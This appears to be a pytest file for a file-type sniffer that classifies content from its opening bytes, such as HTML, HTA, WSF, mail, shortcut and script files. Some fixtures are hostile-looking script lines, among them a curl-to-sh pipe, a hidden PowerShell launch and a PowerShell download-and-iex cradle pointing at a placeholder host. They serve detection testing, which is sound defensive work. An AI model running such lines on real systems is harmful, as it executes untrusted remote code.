"""Texts: what their first words say."""

from __future__ import annotations

import pytest

from sabaki.files.kindtext import of_text

MAIL = b"From: a@example.jp\r\nTo: b@example.jp\r\nSubject: x\r\n\r\nHello\r\n"


@pytest.mark.parametrize(
    ("content", "claim", "kind"),
    [
        (b"\xef\xbb\xbf\r\n <!-- a comment --> <!DOCTYPE html><p>", "", "html"),
        (b"<!--" + b"-" * 20_000 + b"--><html><body>", "", "html"),
        (b" " * 30_000 + b"<script>x</script>", "", "html"),
        ("\ufeff<html>".encode("utf-16-le"), "", "html"),
        ("<html><body>これは".encode("utf-16-le"), "", "html"),
        (b"<html>\0\0<body>", "", "html"),
        (b"<?xml version='1.0'?><!DOCTYPE svg PUBLIC 'x' 'y'><svg>", "", "svg"),
        (b"<svg xmlns='http://www.w3.org/2000/svg'>", "png", "svg"),
        (b"<?xml version='1.0'?><html xmlns='http://www.w3.org/1999/xhtml'>", "", "xhtml"),
        (b"<html><head><HTA:APPLICATION id=x></head>", "html", "hta"),
        (b"<html></html>", "hta", "hta"),
        (b"<job id='x'><script language='JScript'>", "", "wsf"),
        (b"<?XML version='1.0'?><scriptlet>", "", "sct"),
        (b"<?xml version='1.0'?><package><job></job><script/></package>", "", "wsf"),
        (b"<?xml version='1.0'?><PCSettings>", "", "settingcontent-ms"),
        (b"<?xml version='1.0'?><libraryDescription xmlns='x'>", "", "library-ms"),
        (b"<?xml version='1.0'?><MMC_ConsoleFile>", "", "msc"),
        (b"<?xml version='1.0'?><plist><dict><key>URL</key>", "", "webloc"),
        (b"<?xml version='1.0'?><plist><dict><key>PayloadContent</key>", "", "mobileconfig"),
        (b"<?xml version='1.0'?><rss/>", "", "xml"),
        (b"<?xml version='1.0'?><?mso-application progid='Word.Document'?><w:wordDocument>", "doc", "xml"),
        (b"BEGIN:VCALENDAR\r\nVERSION:2.0", "", "ics"),
        (b"begin:vcard\r\n", "", "vcf"),
        (MAIL, "", "mail"),
        (b"123\n" + MAIL, "", "emlx"),
        (b"From a@example.jp Mon Jan  1 00:00:00 2024\r\n" + MAIL, "", "mail"),
        ((b"From a@example.jp Mon Jan  1 00:00:00 2024\n" + MAIL.replace(b"\r\n", b"\n")) * 2, "", "mbox"),
        ((b"From: <Saved by Blink>\r\nSnapshot-Content-Location: https://a.example/\r\nMIME-Version: 1.0\r\n"
         b"Content-Type: multipart/related\r\n\r\n"), "", "mht"),
        (b"From: someone who quotes\n\nand says something", "", "text"),
        (b"[InternetShortcut]\r\nURL=https://a.example/", "", "url"),
        (b"[{000214A0-0000-0000-C000-000000000046}]\r\nProp3=19,2\r\n[InternetShortcut]\r\n", "", "url"),
        (b"#@~^DgAAAA==", "", "jse"),
        (b"#@~^DgAAAA==", "vbe", "vbe"),
        ("\ufeffWindows Registry Editor Version 5.00\r\n".encode("utf-16-le"), "", "reg"),
        (b"#!/usr/bin/env python3\nprint(1)", "", "py"),
        (b"#!/bin/bash\ncurl x | sh", "text", "sh"),
        (b"@echo off\r\npowershell -w hidden -c calc\r\n", "pdf", "bat"),
        (b"var a = new ActiveXObject('WScript.Shell');\na.Run('calc');", "", "js"),
        (b"On Error Resume Next\r\nSet s = CreateObject(\"WScript.Shell\")\r\n", "", "vbs"),
        (b"$a = New-Object Net.WebClient\n$b = $a.DownloadString('https://a.example/')\niex $b\n", "", "ps1"),
        (b"var a = new ActiveXObject('WScript.Shell');", "text", "text"),
        (b"just words", "js", "js"),
        ("ご確認ください。".encode("cp932"), "", "text"),
        ("ご確認ください。".encode("iso-2022-jp"), "", "text"),
        (b"If you set up a function for me, I would return the favour.", "", "text"),
        (b"\x01\x02\x03\x04", "", ""),
    ],
)  # fmt: skip
def test_of_text(content: bytes, claim: str, kind: str) -> None:
    assert of_text(content, claim)[0] == kind


def test_floods_are_harmless() -> None:
    assert of_text(b"<!---->" * 50_000, "html")[0] == "html"
    assert of_text(b"<" * 500_000, "")[0] in ("", "text")
    assert of_text(b"<?" * 100_000, "")[0] in ("", "text", "html", "xml")
